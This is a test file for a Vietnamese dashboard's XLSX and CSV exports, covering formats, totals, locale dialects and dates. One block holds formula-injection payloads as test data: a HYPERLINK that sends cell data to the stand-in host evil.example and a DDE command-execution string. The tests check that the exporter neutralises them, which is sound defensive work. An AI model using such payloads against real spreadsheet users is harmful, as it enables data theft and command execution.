/** Exports: the XLSX a reader opens has real numbers, formats and a totals row equal to the page's; CSV has a BOM. */
import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import JSZip from 'jszip'
import { parse } from 'csv-parse/sync'
import {
  computeTotals,
  csvCell,
  exportFormatOf,
  exportResponse,
  neutraliseFormula,
  toCsv,
  toXlsx,
  type ExportTable,
} from '../app/lib/export.server.ts'
import { rejectsExport } from '../app/dashboard/data-health.tables.ts'
import { fmtDateTime } from '../app/i18n/format.ts'
import { overviewExport } from '../app/dashboard/overview.tables.ts'
import { metricInfo, metricLabel } from '../app/kpi/catalogue.ts'

interface Row {
  name: string
  received: number
  onTime: number | null
  rate: number | null
  gapVnd: number
  day: string
}
const rows: Row[] = [
  { name: 'Đông Hà', received: 1200, onTime: 1100, rate: 1100 / 1200, gapVnd: 36_000_000, day: '2025-07-01' },
  { name: 'Phường "Nam" Đông Hà, cũ', received: 300, onTime: null, rate: null, gapVnd: 0, day: '2026-01-05' },
  { name: 'Cồn Cỏ', received: 0, onTime: 0, rate: null, gapVnd: 4_500_000, day: '2026-11-24' },
]
const table: ExportTable<Row> = {
  name: 'tong-quan',
  title: 'Tổng quan — xã, phường',
  notes: ['Kỳ: 01/07/2025 – 24/11/2026', 'Dữ liệu mô phỏng'],
  columns: [
    { key: 'name', header: 'Đơn vị', kind: 'text' },
    { key: 'received', header: 'Tiếp nhận', kind: 'int', total: 'sum' },
    { key: 'onTime', header: 'Đúng hạn', kind: 'int', total: 'sum' },
    {
      key: 'rate',
      header: 'Tỷ lệ đúng hạn',
      kind: 'pct',
      // A rate's total is the ratio of the sums, not a sum of rates.
      total: (rs) => rs.reduce((s, r) => s + (r.onTime ?? 0), 0) / rs.reduce((s, r) => s + r.received, 0),
    },
    { key: 'gapVnd', header: 'Thiếu thiết bị (₫)', kind: 'vnd', total: 'sum' },
    { key: 'day', header: 'Ngày', kind: 'date' },
  ],
  rows,
}

describe('XLSX export', () => {
  it('writes title, notes, header, rows and a totals row with formulas and their results', async () => {
    const buf = await toXlsx(table)
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.load(buf as unknown as ArrayBuffer)
    const ws = wb.getWorksheet('tong-quan')!
    expect(ws.getCell('A1').value).toBe('Tổng quan — xã, phường')
    expect(ws.getCell('A3').value).toBe('Dữ liệu mô phỏng')
    expect(ws.getRow(5).values).toEqual([undefined, 'Đơn vị', 'Tiếp nhận', 'Đúng hạn', 'Tỷ lệ đúng hạn', 'Thiếu thiết bị (₫)', 'Ngày'])
    expect(ws.getCell('B6').value).toBe(1200)
    expect(ws.getCell('B6').numFmt).toBe('#,##0')
    expect(ws.getCell('D6').numFmt).toBe('0.0%')
    expect(ws.getCell('E6').numFmt).toBe('#,##0 "₫"')
    // A missing value is an empty cell, never 0.
    expect(ws.getCell('C7').value).toBeNull()
    expect(ws.getCell('D7').value).toBeNull()
    expect((ws.getCell('F6').value as Date).toISOString()).toBe('2025-07-01T00:00:00.000Z')
    const total = ws.getRow(9)
    expect(total.getCell(1).value).toBe('Tổng cộng')
    expect(total.getCell(2).value).toEqual({ formula: 'SUM(B6:B8)', result: 1500 })
    expect(total.getCell(3).value).toEqual({ formula: 'SUM(C6:C8)', result: 1100 })
    expect(total.getCell(4).value).toBeCloseTo(1100 / 1500, 12)
    expect(total.getCell(5).value).toEqual({ formula: 'SUM(E6:E8)', result: 40_500_000 })
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 5 })
  })

  it('computeTotals gives the figures a page shows under its table', () => {
    expect(computeTotals(table)).toEqual({ received: 1500, onTime: 1100, rate: 1100 / 1500, gapVnd: 40_500_000 })
  })
})

describe('CSV export (csv-stringify; dialect by UI language, ADR 022)', () => {
  it('Vietnamese: UTF-8 BOM, `;` between fields, decimal comma, rounded figures, dd/MM/yyyy, quotes only where needed', () => {
    const csv = toCsv(table, 'vi')
    expect(csv.charCodeAt(0)).toBe(0xfeff)
    const lines = csv.slice(1).split('\r\n')
    expect(lines[0]).toBe('Đơn vị;Tiếp nhận;Đúng hạn;Tỷ lệ đúng hạn;Thiếu thiết bị (₫);Ngày')
    // 1100 / 1200 = 0.91666… → 91,7% (not 0.9166666666666666)
    expect(lines[1]).toBe('Đông Hà;1200;1100;91,7%;36000000;01/07/2025')
    // A comma is no separator here: no quotes needed; the doubled quote still is quoted.
    expect(lines[2]).toBe('"Phường ""Nam"" Đông Hà, cũ";300;;;0;05/01/2026')
    expect(lines[3]).toBe('Cồn Cỏ;0;0;;4500000;24/11/2026')
    expect(lines).toHaveLength(5) // header, 3 rows, trailing empty
  })

  it('English: `,` between fields and a decimal point, the same rounding and dates', () => {
    const lines = toCsv(table, 'en').slice(1).split('\r\n')
    expect(lines[0]).toBe('Đơn vị,Tiếp nhận,Đúng hạn,Tỷ lệ đúng hạn,Thiếu thiết bị (₫),Ngày')
    expect(lines[1]).toBe('Đông Hà,1200,1100,91.7%,36000000,01/07/2025')
    expect(lines[2]).toBe('"Phường ""Nam"" Đông Hà, cũ",300,,,0,05/01/2026')
  })

  it('rounds each kind as the page shows it: num1, num2, raw floats, negative numbers stay numbers', () => {
    const t: ExportTable<{ a: number; b: number; c: number; d: number; e: number }> = {
      name: 'x',
      title: 'x',
      rows: [{ a: 0.8888888888888888, b: 2.345, c: -2.5, d: -1234, e: 1 / 3 }],
      columns: [
        { key: 'a', header: 'a', kind: 'pct' },
        { key: 'b', header: 'b', kind: 'num1' },
        { key: 'c', header: 'c', kind: 'num2' },
        { key: 'd', header: 'd', kind: 'int' },
        { key: 'e', header: 'e', kind: 'text' },
      ],
    }
    expect(toCsv(t, 'vi').slice(1).split('\r\n')[1]).toBe('88,9%;2,3;-2,50;-1234;0,33')
    expect(toCsv(t, 'en').slice(1).split('\r\n')[1]).toBe('88.9%,2.3,-2.50,-1234,0.33')
  })

  it('times are local (Asia/Ho_Chi_Minh) dd/MM/yyyy HH:mm: the rejects CSV shows what the page shows', () => {
    const rows = [
      { at: '2026-03-01T16:30:00.000Z', job: 'dossiers', reason: 'bad_enum', recordId: 'HS-1', detail: 'x', runId: 7, raw: '{}' },
    ]
    const csv = toCsv(rejectsExport('vi', rows as never, []), 'vi')
    expect(csv.slice(1).split('\r\n')[1]).toBe('01/03/2026 23:30;dossiers;bad_enum;HS-1;x;7;{}')
    // The same local day and time as the page (which writes the time first).
    expect(fmtDateTime(rows[0]!.at, 'vi')).toBe('23:30 01/03/2026')
  })

  it('a date cell keeps the calendar day its text names; midnight is 00:xx; a text that is no date stays as it is', () => {
    const d = { delimiter: ';', decimal: ',' } as const
    expect(csvCell('date', '2026-03-01 23:59:00', d)).toBe('01/03/2026')
    expect(csvCell('datetime', '2026-02-28T17:05:00Z', d)).toBe('01/03/2026 00:05')
    expect(csvCell('datetime', 'không rõ', d)).toBe('không rõ')
  })

  it('responses carry the right type and file name; the format comes from ?format=', async () => {
    const res = await exportResponse('csv', table, { day: '2026-11-24' })
    expect(res.headers.get('Content-Type')).toBe('text/csv; charset=utf-8')
    expect(res.headers.get('Content-Disposition')).toBe('attachment; filename="tong-quan-2026-11-24.csv"')
    expect(new Uint8Array(await res.arrayBuffer()).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]))
    expect((await (await exportResponse('csv', table, { lang: 'en', day: '2026-11-24' })).text()).split('\r\n')[0]).toContain(',Tiếp nhận,')
    const x = await exportResponse('xlsx', table, { day: '2026-11-24' })
    expect(x.headers.get('Content-Type')).toContain('spreadsheetml')
    expect(exportFormatOf(new URLSearchParams('format=xlsx'))).toBe('xlsx')
    expect(exportFormatOf(new URLSearchParams('format=pdf'))).toBeNull()
  })
})

describe('formula injection (issue 17 item 9): hostile source text in exports', () => {
  const HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '\t=1+2',
    '\r=1+2',
  ]
  interface R {
    name: string
    n: number
  }
  const hostile: ExportTable<R> = {
    name: 'ban-ghi-loai',
    title: 'Bản ghi bị loại',
    rows: [...HOSTILE.map((name, i) => ({ name, n: -(i + 1) })), { name: 'Đông Hà', n: -2.5 }],
    columns: [
      { key: 'name', header: 'Tên thủ tục', kind: 'text' },
      { key: 'n', header: 'Số', kind: 'num1' },
    ],
  }

  it('CSV: every text cell starting with = + - @ tab or CR gets a leading apostrophe; negative numbers stay numbers', () => {
    for (const lang of ['vi', 'en'] as const) {
      const rows = parse(toCsv(hostile, lang).slice(1), { delimiter: lang === 'vi' ? ';' : ',', relax_quotes: true }) as string[][]
      const body = rows.slice(1)
      expect(body.map((r) => r[0])).toEqual([...HOSTILE.map((h) => `'${h}`), 'Đông Hà'])
      const dec = lang === 'vi' ? ',' : '.'
      expect(body.map((r) => r[1])).toEqual(
        ['-1', '-2', '-3', '-4', '-5', '-6', '-2.5'].map((n) => (n.includes('.') ? n : `${n}.0`).replace('.', dec)),
      )
      // No cell that a spreadsheet would evaluate is left.
      expect(body.flat().filter((c) => /^[=+@\t\r]/.test(c) || /^-[^\d]/.test(c) || /^-\d.*[+*/]/.test(c))).toEqual([])
    }
    expect(neutraliseFormula('-2+3')).toBe("'-2+3")
    expect(neutraliseFormula('Đông Hà')).toBe('Đông Hà')
  })

  it('XLSX: hostile text is stored as plain string cells (no formula), numbers stay numbers', async () => {
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.load((await toXlsx(hostile)) as unknown as ArrayBuffer)
    const ws = wb.getWorksheet('ban-ghi-loai')!
    const first = 4 // title, blank, header
    HOSTILE.forEach((h, i) => {
      const cell = ws.getCell(first + i, 1)
      expect(cell.type).toBe(ExcelJS.ValueType.String)
      expect(cell.value).toBe(h.replace(/\r/g, '\n')) // XML keeps a lone CR as a line break
      expect(cell.formula).toBeUndefined()
      expect(ws.getCell(first + i, 2).value).toBe(-(i + 1))
      expect(ws.getCell(first + i, 2).type).toBe(ExcelJS.ValueType.Number)
    })
    // The raw sheet XML holds no <f> element: nothing a spreadsheet would compute.
    const zip = await JSZip.loadAsync(await toXlsx(hostile))
    expect(await zip.file('xl/worksheets/sheet1.xml')!.async('string')).not.toContain('<f>')
  })
})

describe('exports say what the figures mean (issue 14 item 4, ADR 037)', () => {
  const overview = overviewExport('vi', [], ['Kỳ: 09/03/2026 – 13/03/2026'])
  const figureColumns = ['received', 'to_process', 'processed', 'backlog', 'overdue_open', 'on_time_rate', 'late_rate'] as const

  it('CSV: one table — the header, then one line per row, nothing after (definitions travel in the workbook)', async () => {
    const text = (await (await exportResponse('csv', overview, { lang: 'vi', day: '2026-03-13' })).text()).replace(/^\uFEFF/, '')
    const csv = parse(text, { delimiter: ';' }) as string[][]
    expect(csv).toEqual([overview.columns.map((c) => c.header)]) // no rows in this export: the header alone
    expect(text).not.toContain('Định nghĩa')
  })

  it('XLSX: a "Định nghĩa" sheet (English: "Definitions") with the same rows', async () => {
    for (const lang of ['vi', 'en'] as const) {
      const wb = new ExcelJS.Workbook()
      await wb.xlsx.load((await toXlsx(overviewExport(lang, [], []), lang)) as unknown as ArrayBuffer)
      const ws = wb.getWorksheet(lang === 'vi' ? 'Định nghĩa' : 'Definitions')!
      expect(ws, lang).toBeDefined()
      const rows = ws.getSheetValues().filter(Boolean) as unknown[][]
      const line = rows.find((r) => r[1] === metricLabel(lang, 'late_rate'))!
      const i = metricInfo(lang, 'late_rate')
      expect(line.slice(1)).toEqual([i.label, i.definition, i.numerator, i.denominator, i.window])
      expect(rows.length).toBeGreaterThanOrEqual(figureColumns.length + 2)
    }
    // Without a language (a caller's own workbook), no extra sheet.
    const plain = new ExcelJS.Workbook()
    await plain.xlsx.load((await toXlsx(table)) as unknown as ArrayBuffer)
    expect(plain.worksheets.map((w) => w.name)).toEqual(['tong-quan'])
  })
})
